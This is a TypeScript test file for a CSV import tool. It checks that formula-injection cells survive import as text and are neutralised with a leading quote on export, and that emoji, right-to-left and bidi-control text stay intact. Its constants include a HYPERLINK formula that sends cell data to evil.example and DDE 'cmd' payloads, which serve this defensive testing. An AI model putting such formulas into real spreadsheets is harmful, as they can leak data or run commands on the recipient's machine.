import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { HOSTILE_DIR } from '../fixtures/hostile/generate.js';
import { testRedis, testRedisUrl } from '../helpers/redis.js';
import { runCli } from '../ops/run-cli.js';
import { runImport, takeEnqueuedJobs } from './run-import.js';

const redis = testRedis();
const scratch = mkdtempSync(join(tmpdir(), 'lpi-hostile-out-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** Reads a CSV this tool wrote (UTF-8 with BOM) back into rows of cells. */
const readCsv = (path: string): string[][] =>
  parse(readFileSync(path), { bom: true, relax_column_count: true });

const EVIL_LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const PLUS_CMD = "+cmd|' /C calc'!A0";
const AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0";

describe('formula-injection cells', () => {
  it('are imported as the plain text of the cell and neutralised when written back to --rejects and the report', async () => {
    const rejectsFile = join(scratch, 'rejects.csv');
    const run = await runImport(join(HOSTILE_DIR, 'formula-injection.csv'), {
      args: ['--rejects', rejectsFile],
    });
    expect(run.code, run.stderr).toBe(3);

    // The report reads the import back from Redis, so it runs before the keys are removed.
    const reportFile = join(scratch, 'report.csv');
    const importId = run.summary?.importId ?? '';
    const report = await runCli(['report', importId, '--out', reportFile], {
      REDIS_URL: testRedisUrl(),
      REDIS_PREFIX: run.prefix,
    });
    expect(report.code, report.stderr).toBe(0);

    const jobs = await takeEnqueuedJobs(redis, run.prefix);
    expect(jobs.map((j) => j.line)).toEqual([2, 3, 4]);
    const [eq, plus, at] = jobs;
    // Nothing is stripped or evaluated on the way in: Pipedrive gets the cell as written.
    expect(eq?.person?.name).toBe(EVIL_LINK);
    expect(eq?.cells).toEqual([EVIL_LINK, 'eq@example.org', 'Formula Co', 'plain']);
    expect(plus?.person?.name).toBe(PLUS_CMD);
    expect(plus?.organization?.name).toBe(AT_SUM);
    expect(plus?.cells).toEqual([PLUS_CMD, 'plus@example.org', AT_SUM, '-2+3']);
    expect(at?.person?.name).toBe('@SUM(A1:A9)');
    expect(at?.organization?.name).toBe('=1+2');
    expect(at?.cells).toEqual(['@SUM(A1:A9)', 'at@example.org', '=1+2', '\tTabbed']);

    // Written back, every cell a spreadsheet would run starts with ' and so opens as text.
    const [header, rejected, ...more] = readCsv(rejectsFile);
    expect(header).toEqual(['Name', 'Email', 'Company', 'Notes', 'line', 'column', 'reason']);
    expect(more).toEqual([]);
    expect(rejected?.slice(0, 6)).toEqual([
      `'=HYPERLINK("http://evil.example")`,
      'not-an-email',
      "'+Rejected Co",
      "'@notes",
      '5',
      'Email',
    ]);

    const reportRows = readCsv(reportFile);
    const reportCells = reportRows.flat();
    expect(reportCells.length).toBeGreaterThan(0);
    for (const cell of reportCells)
      expect(cell, `report cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    const line5 = reportRows.find((r) => r[0] === '5');
    expect(line5).toContain(`'=HYPERLINK("http://evil.example")`);
  }, 120_000);
});

describe('emoji and right-to-left text', () => {
  it('are accepted and reach the queue intact: names, organizations and international emails', async () => {
    const run = await runImport(join(HOSTILE_DIR, 'emoji-rtl.csv'));
    expect(run.code, run.stderr).toBe(0);
    expect(run.summary).toMatchObject({ rows: 5, enqueued: 5, rejected: 0 });
    const jobs = await takeEnqueuedJobs(redis, run.prefix);
    const seen = jobs.map((j) => [j.person?.name, j.person?.email, j.organization?.name]);
    expect(seen).toEqual([
      ['Zoë 👩🏽‍💻 Dev', 'zoe.dev@example.org', '🦄 Unicorn Labs'],
      ['محمد عبد الله', 'محمد@مثال.مصر', 'شركة المثال'],
      ['דוד כהן', 'david@example.co.il', 'חברה בע״מ'],
      ['Mixed עברית and English 🇮🇱', 'mixed@דוגמה.ישראל', 'Acme, العربية'],
      // Bidi control characters are text too: kept, not silently dropped.
      ['\u202eevil\u202c Override', 'rlo@example.org', 'Bidi Controls Ltd'],
    ]);
    for (const job of jobs)
      expect([job.person?.name, job.person?.email, job.organization?.name]).toEqual(job.cells);
  }, 120_000);
});
